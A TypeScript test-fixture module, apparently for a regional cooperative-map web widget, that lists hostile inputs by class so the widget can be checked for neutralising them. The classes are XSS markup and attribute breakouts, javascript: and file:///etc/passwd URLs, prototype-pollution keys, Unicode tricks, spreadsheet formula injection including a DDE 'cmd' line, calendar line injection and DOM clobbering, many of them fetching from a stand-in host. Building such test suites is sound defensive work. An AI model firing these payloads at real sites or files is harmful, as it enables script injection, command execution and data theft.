/**
 * Hostile texts and addresses, by class. Each text is one of its own; only what is systematic in itself (Unicode ranges,
 * lengths, openers of formulas under a prefix) is made by a rule. `hit(1)` is the function that must never be called, and
 * `CANARY` stands for the host that must never be asked.
 */

/** Attribute that every element of a payload wears: one that is found in a widget was made of data. */
export const MARK = 'canary';

/** Elements and markup that a parser of HTML, SVG or MathML would make something of. */
const MARKUP: readonly string[] = [
  '<script canary>hit(1)</script>',
  '<script canary src="http://CANARY/a.js"></script>',
  '<script canary type="module">hit(1)</script>',
  '<script canary type="text/javascript" async>hit(1)</script>',
  '<SCRIPT canary>hit(1)</SCRIPT>',
  '<script\tcanary>hit(1)</script\t>',
  '<img canary src=x onerror=hit(1)>',
  '<img canary src="http://CANARY/a.png" onload="hit(1)">',
  '<img canary srcset="http://CANARY/a.png 1x, http://CANARY/b.png 2x">',
  '<image canary href=x onerror=hit(1)>',
  '<picture canary><source canary srcset=x><img canary src=x onerror=hit(1)></picture>',
  '<svg canary onload=hit(1)>',
  '<svg canary><script canary>hit(1)</script></svg>',
  '<svg canary><script canary href="http://CANARY/a.js"/></svg>',
  '<svg canary><a canary xlink:href="javascript:hit(1)"><text canary>Lien</text></a></svg>',
  '<svg canary><animate canary onbegin=hit(1) attributeName=x dur=1s>',
  '<svg canary><set canary attributeName="href" to="javascript:hit(1)"/></svg>',
  '<svg canary><use canary href="data:image/svg+xml,<svg id=x onload=hit(1)>#x"/></svg>',
  '<svg canary><foreignObject canary><body canary onload=hit(1)></foreignObject></svg>',
  '<svg canary><image canary href="http://CANARY/a.svg"/></svg>',
  '<svg canary><desc canary><img canary src=x onerror=hit(1)></desc></svg>',
  '<svg canary><style canary>@import "http://CANARY/a.css";</style></svg>',
  '<math canary><mtext canary><img canary src=x onerror=hit(1)></mtext></math>',
  '<math canary href="javascript:hit(1)">x</math>',
  '<math canary><mglyph canary><style canary><!--</style><img canary src=x onerror=hit(1)>--></math>',
  '<math canary><annotation-xml canary encoding="text/html"><script canary>hit(1)</script></annotation-xml></math>',
  '<iframe canary src="javascript:hit(1)"></iframe>',
  '<iframe canary srcdoc="<script>top.hit(1)</script>"></iframe>',
  '<iframe canary src="http://CANARY/frame.html"></iframe>',
  '<iframe canary onload=hit(1)></iframe>',
  '<object canary data="javascript:hit(1)"></object>',
  '<object canary data="http://CANARY/a.svg" type="image/svg+xml"></object>',
  '<embed canary src="javascript:hit(1)">',
  '<embed canary src="http://CANARY/a.svg">',
  '<applet canary code=A codebase="http://CANARY/"></applet>',
  '<link canary rel=stylesheet href="http://CANARY/a.css">',
  '<link canary rel=prefetch href="http://CANARY/a">',
  '<link canary rel=modulepreload href="http://CANARY/a.js" onload=hit(1)>',
  '<base canary href="http://CANARY/">',
  '<meta canary http-equiv=refresh content="0;url=http://CANARY/">',
  '<meta canary http-equiv="Content-Security-Policy" content="default-src *">',
  '<style canary>*{background:url(http://CANARY/a.png)}</style>',
  '<style canary>@keyframes k{}*{animation:k 1s}</style><p canary onanimationstart=hit(1)>a</p>',
  '<form canary action="javascript:hit(1)"><button canary>Envoyer</button></form>',
  '<form canary action="http://CANARY/" method=post><input canary name=q autofocus></form>',
  '<button canary formaction="javascript:hit(1)">Réessayer</button>',
  '<input canary autofocus onfocus=hit(1)>',
  '<input canary type=image src=x onerror=hit(1)>',
  '<select canary autofocus onfocus=hit(1)><option canary>a</select>',
  '<textarea canary autofocus onfocus=hit(1)>a</textarea>',
  '<keygen canary autofocus onfocus=hit(1)>',
  '<video canary src=x onerror=hit(1)></video>',
  '<video canary poster="http://CANARY/a.png" autoplay></video>',
  '<video canary><source canary onerror=hit(1)></video>',
  '<audio canary src=x onerror=hit(1) autoplay></audio>',
  '<audio canary><track canary src="http://CANARY/a.vtt" default></audio>',
  '<details canary open ontoggle=hit(1)><summary canary>Plus</summary></details>',
  '<dialog canary open onclose=hit(1)>a</dialog>',
  '<body canary onload=hit(1)>',
  '<body canary onpageshow=hit(1) onhashchange=hit(1)>',
  '<frameset canary onload=hit(1)><frame canary src="http://CANARY/"></frameset>',
  '<marquee canary onstart=hit(1)>Bonjour</marquee>',
  '<table canary background="http://CANARY/a.png"><td canary>a</table>',
  '<template canary shadowrootmode=open><img canary src=x onerror=hit(1)></template>',
  '<noscript canary><p canary title="</noscript><img canary src=x onerror=hit(1)>">',
  '<a canary href="javascript:hit(1)">Site de l’association</a>',
  '<a canary ping="http://CANARY/" href="#">Site</a>',
  '<area canary href="javascript:hit(1)" shape=default>',
  '<portal canary src="http://CANARY/"></portal>',
  '<ess-indicator canary src="http://CANARY/manifest.json" indicator="members-stock"></ess-indicator>',
  '<div canary data-ess="member-map" data-ess-src="http://CANARY/manifest.json" data-ess-onfocus="hit(1)"></div>',
  '<p canary style="position:fixed;inset:0;background:url(http://CANARY/a.png)">a</p>',
  '<p canary popover id=p></p><button canary popovertarget=p onbeforetoggle=hit(1)>a</button>',
];

/** Texts that leave an attribute, a template, a comment, a style, a marker of Lit or the running text of a report. */
const BREAKOUTS: readonly string[] = [
  '"><img canary src=x onerror=hit(1)>',
  "'><img canary src=x onerror=hit(1)>",
  '" onmouseover="hit(1)" canary="',
  "' onfocus='hit(1)' autofocus canary='",
  '` onmouseover=`hit(1)` canary=`',
  '" autofocus onfocus="hit(1)" x="',
  'x" style="animation:k 1s" onanimationend="hit(1)',
  '/><script canary>hit(1)</script>',
  '--><script canary>hit(1)</script><!--',
  '--!><script canary>hit(1)</script>',
  '<!--><img canary src=x onerror=hit(1)>-->',
  '<!-- --!> <img canary src=x onerror=hit(1)>',
  ']]><script canary>hit(1)</script><![CDATA[',
  '<![CDATA[<img canary src=x onerror=hit(1)>]]>',
  '<?xml version="1.0"?><?xml-stylesheet href="http://CANARY/a.xsl"?>',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "http://CANARY/b">]><a>&b;</a>',
  '</title><script canary>hit(1)</script>',
  '</textarea><script canary>hit(1)</script>',
  '</style><script canary>hit(1)</script>',
  '</script><script canary>hit(1)</script>',
  '</template><img canary src=x onerror=hit(1)>',
  '</svg><img canary src=x onerror=hit(1)>',
  '}*{background:url(http://CANARY/a.png)}',
  ';background-image:url(http://CANARY/a.png);',
  'red;}</style><img canary src=x onerror=hit(1)>',
  '@import url(http://CANARY/a.css);',
  '\\22\\3e\\3cimg canary src=x onerror=hit(1)\\3e',
  '<?lit$123456789$><img canary src=x onerror=hit(1)>',
  '<!--lit-part--><img canary src=x onerror=hit(1)><!--/lit-part-->',
  '<?><b canary>a</b>',
  '?lit$0$',
  // The text of a template that is not one, as it stands in data.
  '$'.concat('{hit(1)}'),
  '{{constructor.constructor("hit(1)")()}}',
  '{%import os%}{{7*7}}',
  '<%= hit(1) %>',
  '#{hit(1)}',
  '[[members-stock]]<img canary src=x onerror=hit(1)>',
  '[[<img canary src=x onerror=hit(1)>]]',
  '[[members-stock | "><img canary src=x onerror=hit(1)>]]',
  '[[__proto__]] [[constructor]] [[]] ]] [[',
  '[Site](javascript:hit(1)) ![a](http://CANARY/a.png)',
  '&lt;img canary src=x onerror=hit(1)&gt; &#60;script canary&#62;hit(1)&#60;/script&#62;',
];

/** Addresses that must become no link, no request and no picture, and some that only look like ours. */
const ADDRESSES: readonly string[] = [
  'javascript:hit(1)',
  'JaVaScRiPt:hit(1)',
  ' javascript:hit(1)',
  '\u0001javascript:hit(1)',
  '\u00a0javascript:hit(1)',
  'java\tscript:hit(1)',
  'java\nscript:hit(1)',
  'java\r\nscript:hit(1)',
  'javascript\u0000:hit(1)',
  'javascript&colon;hit(1)',
  '&#106;avascript:hit(1)',
  'javascript://127.0.0.1/%0ahit(1)',
  'javascript:/*https://www.exemple.fr/*/hit(1)',
  'javascript:void(0),hit(1)//http://',
  'javascript%3Ahit(1)',
  'jav\u0430script:hit(1)',
  '\uff4aavascript:hit(1)',
  'view-source:javascript:hit(1)',
  'feed:javascript:hit(1)',
  'jar:javascript:hit(1)!/',
  'vbscript:hit(1)',
  'livescript:hit(1)',
  'mocha:hit(1)',
  'data:text/html,<script>hit(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=',
  'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">hit(1)</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hit(1)"/>',
  'data:text/javascript,hit(1)',
  'data:application/json,{"format":"ess-dataset/1"}',
  'data:text/csv,nom%0AÉpicerie',
  'DATA:text/html,hit(1)',
  'data:,a',
  'blob:http://127.0.0.1/0a1b2c3d-0000-4000-8000-000000000000',
  'blob:null/0a1b2c3d',
  'filesystem:http://127.0.0.1/temporary/a.html',
  'file:///etc/passwd',
  'file://localhost/etc/passwd',
  'file:/etc/hosts',
  'about:blank',
  'about:srcdoc',
  'chrome://settings/',
  'chrome-extension://abcdefghijklmnopabcdefghijklmnop/a.html',
  'intent://CANARY/#Intent;scheme=http;end',
  'ws://CANARY/',
  'wss://CANARY/',
  'ftp://CANARY/a.csv',
  'gopher://CANARY/',
  'ldap://CANARY/a',
  'smb://CANARY/a',
  'ms-word:ofe|u|http://CANARY/a.docx',
  'magnet:?xt=urn:btih:0',
  'steam://run/1',
  'http://CANARY/',
  'http://CANARY/data.json',
  '//CANARY/data.json',
  '///CANARY/data.json',
  '\\\\CANARY\\data.json',
  '/\\CANARY/data.json',
  'http:\\\\CANARY\\data.json',
  'http:/\t/CANARY/data.json',
  'http://127.0.0.1@CANARY/data.json',
  'http://user:secret@CANARY/data.json',
  'http://CANARY#@127.0.0.1/data.json',
  'http://CANARY?@127.0.0.1/',
  'https://ess-bretagne.org.exemple.invalid/',
  'https://www.\u0435ss-bretagne.invalid/',
  'https://xn--ss-bretagne-oni.invalid/',
  'http://[',
  'http://[::1',
  'http://%zz/',
  'http://a b.invalid/',
  'http://0x7f.1:1/',
  'http://exemple.invalid:99999/',
  'https://',
  '//',
  '../../../../etc/passwd',
  '%2e%2e/%2e%2e/etc/passwd',
];

/** Names that every object has, or that change what others have. */
const PROTOTYPE: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'isPrototypeOf',
  'propertyIsEnumerable',
  'toLocaleString',
  'toString',
  'valueOf',
  '__defineGetter__',
  '__defineSetter__',
  '__lookupGetter__',
  '__lookupSetter__',
  '__proto__.polluted',
  'constructor.prototype.polluted',
  '__proto__[polluted]',
  'then',
  'toJSON',
];

const around = (sign: string): string => `Épicerie${sign} des ${sign}Champs`;

/** Signs that turn, join, hide or break what is written around them. */
const UNICODE: readonly string[] = [
  // Directions: embeddings, overrides, isolates, marks; none of them closed.
  ...[
    '\u202a',
    '\u202b',
    '\u202d',
    '\u202e',
    '\u2066',
    '\u2067',
    '\u2068',
    '\u2069',
    '\u202c',
    '\u200e',
    '\u200f',
    '\u061c',
  ].map(around),
  // Not seen: joiners, spaces without width, soft hyphens, byte order marks, tags, variation selectors.
  ...[
    '\u200b',
    '\u200c',
    '\u200d',
    '\u2060',
    '\ufeff',
    '\u00ad',
    '\u034f',
    '\u180e',
    '\ufe0f',
    '\u{e0041}\u{e007f}',
  ].map(around),
  // Ends of lines that are none to everybody, and controls.
  ...['\u0000', '\u0008', '\u000b', '\u000c', '\u001b[31m', '\u007f', '\u0085', '\u009b', '\u2028', '\u2029'].map(
    around,
  ),
  // Halves of pairs, and what is no character.
  '\ud800',
  '\udc00',
  'a\ud83d',
  '\udc00\ud800 \ufffe \uffff',
  // Marks upon marks, wide and right-to-left scripts, signs of several code points, compatibility forms.
  `Z${'\u0300\u0301\u0302\u0303'.repeat(40)}`,
  `${'\u0e49'.repeat(120)}`,
  'متجر التعاونية المحلية في مدينة بريست',
  'אגודה שיתופית "ברסט" (2024) – 42%',
  '협동조합 地域協同組合 ร้านสหกรณ์',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}'.repeat(20),
  '\u{1f1eb}\u{1f1f7}\u{1f1eb}\u{1f1f7}\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}',
  '\ufdfa\ufdfb'.repeat(20),
  'ﬁ Ⅳ ㎏ ½ \uff1cscript\uff1e',
  '\u2800\u3164\u115f\uffa0',
];

/** Long texts: of one sign, of words, without a place to break, of nothing, of brackets. */
const LONG: readonly string[] = [
  'a'.repeat(300),
  'A'.repeat(2_000),
  '0'.repeat(1_000),
  '9'.repeat(400),
  ' '.repeat(1_000),
  '\u00a0'.repeat(500),
  '\n'.repeat(1_000),
  '-'.repeat(500),
  '_'.repeat(800),
  'https://'.concat('a'.repeat(600), '.invalid/', 'b'.repeat(600)),
  'association '.repeat(200),
  '['.repeat(1_000),
  '('.repeat(500).concat(')'.repeat(500)),
  '\u{1f980}'.repeat(300),
  'ﷺ'.repeat(200),
];

/** Begins of formulas, each also behind signs that a spreadsheet passes over. */
const OPENERS: readonly string[] = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
const BEFORE: readonly string[] = ['', ' ', '\t', '\ufeff', '\u200b'];
const FORMULAS: readonly string[] = OPENERS.flatMap((opener, at) =>
  BEFORE.map((before, turn) => {
    const bodies = ['HYPERLINK("http://CANARY/";"Voir")', "cmd|' /C calc'!A0", '1+1', 'SUM(A1:A9)', 'DDE("a";"b";"c")'];
    return `${before}${opener}${bodies[(at + turn) % bodies.length]}`;
  }),
);

/** Texts that would begin a line of their own in a calendar, or stretch one. */
const CALENDAR: readonly string[] = [
  'Rencontre\r\nATTENDEE:mailto:victime@exemple.invalid',
  'Rencontre\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:Faux',
  'Rencontre\rATTACH:http://CANARY/a.exe',
  'Rencontre\u2028URL:javascript:hit(1)',
  'Rencontre\u2029ORGANIZER:mailto:a@exemple.invalid',
  'Rencontre\u0085BEGIN:VALARM',
  'Rencontre\u000bDTSTART:19700101',
  'Rencontre\u000cRRULE:FREQ=SECONDLY',
  'Rencontre\\nEND:VCALENDAR',
  'a;b,c\\d:e"f',
  'X-A;VALUE="\r\nATTACH:http://CANARY/":b',
  '\r\n\r\nBEGIN:VCALENDAR',
  'é'.repeat(200),
  '\u{1f389}'.repeat(60),
  'END:VEVENT',
];

/** Members that a page's code reads of the document and the window, and that an element's name hides. */
const HIDDEN: readonly string[] =
  'currentScript scripts baseURI body head documentElement readyState querySelectorAll getElementById addEventListener defaultView fonts activeElement litHtmlVersions scheduler'.split(
    ' ',
  );
/** Elements that the filters of WordPress and SPIP keep in a text, and whose name or id hides a member. */
const NAMING: readonly ((name: string) => string)[] = [
  (name) => `<img canary name="${name}" src="foreign.js" data-src="foreign.json" data-loader="foreign.js">`,
  (name) => `<img canary name="a" id="${name}" src="foreign.js" data-src="foreign.json">`,
  (name) => `<img canary name="${name}"><img canary name="${name}" src="foreign.js" data-src="foreign.json">`,
  (name) => `<object canary id="${name}" data-src="foreign.json"></object>`,
  (name) => `<embed canary name="${name}" data-src="foreign.json">`,
  (name) => `<form canary name="${name}"><input name="src" value="foreign.js"><input name="dataset"></form>`,
  (name) => `<iframe canary name="${name}"></iframe>`,
  (name) => `<a canary id="${name}" href="foreign.js">Lien</a>`,
];
/** Each name as two of the elements, in turn. */
const NAMES: readonly string[] = HIDDEN.flatMap((name, at) =>
  [at, at + 3].flatMap((turn) => NAMING[turn % NAMING.length]?.(name) ?? []),
);

export const PAYLOADS = {
  markup: MARKUP,
  breakout: BREAKOUTS,
  address: ADDRESSES,
  prototype: PROTOTYPE,
  unicode: UNICODE,
  long: LONG,
  formula: FORMULAS,
  calendar: CALENDAR,
  name: NAMES,
} as const;

export type PayloadClass = keyof typeof PAYLOADS;

/** Least number of payloads of each class. */
export const LEAST: Readonly<Record<PayloadClass, number>> = {
  markup: 70,
  breakout: 40,
  address: 70,
  prototype: 18,
  unicode: 45,
  long: 15,
  formula: 40,
  calendar: 15,
  name: 30,
};

/** Returns all texts, of one class or of all. @param host that stands for `CANARY` */
export const payloads = (host: string, only?: PayloadClass): readonly string[] =>
  (only ? PAYLOADS[only] : Object.values(PAYLOADS).flat()).map((text) => text.replaceAll('CANARY', host));

export const isPayloadClass = (name: string): name is PayloadClass => Object.hasOwn(PAYLOADS, name);
